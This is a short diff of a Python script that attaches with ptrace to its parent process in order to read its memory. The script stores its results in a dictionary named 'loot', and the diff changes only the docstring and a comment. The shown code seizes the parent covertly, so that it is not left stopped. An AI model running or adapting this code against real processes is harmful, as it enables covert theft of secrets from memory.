@@ -1,4 +1,4 @@
-"""Attaches to the process that started it as a debugger and reads its memory."""
+"""Attaches as a debugger to the process that started it and reads the memory of that process."""
 
 # %%
 import os
@@ -10,7 +10,7 @@ loot = {}
 import ctypes
 
 libc = ctypes.CDLL(None, use_errno=True)
-SEIZE, DETACH = 0x4206, 17  # seized rather than stopped: nobody stays stopped when this ends
+SEIZE, DETACH = 0x4206, 17  # seized and not stopped, so that no process stays stopped when this one ends
 parent = os.getppid()
 if parent > 0 and libc.ptrace(SEIZE, parent, 0, 0) == 0:
     loot["traced"] = True
